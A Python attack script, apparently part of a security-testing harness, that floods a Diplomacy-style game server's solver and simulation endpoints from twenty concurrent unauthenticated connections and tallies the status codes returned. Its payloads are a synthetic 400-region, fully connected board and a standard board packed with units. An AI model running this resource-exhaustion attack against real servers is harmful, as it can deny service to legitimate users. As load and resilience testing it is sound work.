"""A stranger without the secret has the solver and the sandbox resolve large boards and full positions."""

from __future__ import annotations

import asyncio
import json
import time
from collections import Counter
from typing import Any
from urllib.parse import urlencode

import httpx
from attack.target import Target

STRANGERS = 20
REGIONS = 400
ROLES = 7
FORM = {"Content-Type": "application/x-www-form-urlencoded"}


async def attack(target: Target) -> str:
    """Asks over and over from twenty connections, then says how often each call had which status."""
    solve = _solve_form()
    async with httpx.AsyncClient(base_url=target.url, timeout=30) as client:
        board = (await client.get("/afjd/games/variants/standard")).json()
        sandbox = _simulation_form(board)
        ends = time.monotonic() + target.seconds
        answers: Counter[str] = Counter()

        async def stranger(number: int) -> None:
            while time.monotonic() < ends:
                name, path, form = (
                    ("/solve", "/afjd/solver/solve", solve),
                    ("/simulation", "/afjd/games/simulation", sandbox),
                )[number % 2]
                try:
                    status = str((await client.post(path, content=form, headers=FORM)).status_code)
                except httpx.HTTPError as error:
                    status = type(error).__name__
                answers[f"{name} {status}"] += 1

        await asyncio.gather(*(stranger(number) for number in range(STRANGERS)))
    return ", ".join(f"{count} times {what}" for what, count in sorted(answers.items()))


def _solve_form() -> bytes:
    """A board of its own on which every region is next to every other, as large as a body may be."""
    near = {str(zone): [other for other in range(1, 150) if other != zone] for zone in range(1, 150)}
    variant = {
        "regions": [1] * REGIONS,
        "centers": list(range(1, REGIONS + 1)),
        "roles": {"number": ROLES},
        "start_centers": [[role] for role in range(1, ROLES + 1)],
        "type_coasts": {"number": 0},
        "coastal_zones": [],
        "start_units": [{"1": [role]} for role in range(1, ROLES + 1)],
        "year_zero": 1900,
        "neighbouring": [near, near],
        "distancing": [[], []],
    }
    situation = {"ownerships": {}, "units": {"1": [[1, zone] for zone in range(1, REGIONS)]}}
    orders = [[1, 1, zone, 0, zone + 1] for zone in range(1, REGIONS - 1)]
    given = {"variant": variant, "advancement": 0, "situation": situation, "orders": orders}
    return _encoded(given)


def _simulation_form(board: dict[str, Any]) -> bytes:
    """Every region of the standard board taken, each fleet and army ordered to its first neighbour."""
    armies, fleets = board["neighbouring"]
    coasts = {region for region, _ in board["coastal_zones"]}
    units, orders = [], []
    for zone, terrain in enumerate(board["regions"], 1):
        kind = 2 if terrain == 3 or (terrain == 1 and zone not in coasts and zone % 2) else 1
        unit = {"type_unit": kind, "role": zone % ROLES + 1, "zone": zone}
        near = (armies, fleets)[kind - 1].get(str(zone), [])
        units.append(unit)
        if near:
            orders.append({"order_type": 1, "active_unit": unit, "destination_zone": near[zone % len(near)]})
        else:
            orders.append({"order_type": 4, "active_unit": unit})
    return _encoded({"variant_name": "standard", "orders": orders, "center_ownerships": [], "units": units})


def _encoded(given: dict[str, Any]) -> bytes:
    texts = {key: value if isinstance(value, str) else json.dumps(value) for key, value in given.items()}
    return urlencode(texts).encode()
